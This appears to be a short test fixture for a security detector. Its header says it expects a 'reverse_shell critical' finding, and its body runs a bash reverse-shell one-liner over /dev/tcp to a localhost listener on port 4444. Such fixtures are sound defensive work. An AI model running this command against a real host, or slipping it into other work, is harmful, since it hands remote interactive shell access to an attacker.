# about: bash opens the connection itself and puts it onto its own streams
# expect: reverse_shell critical
# needs: bash python3
peer 4444
bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' || true
done_typing
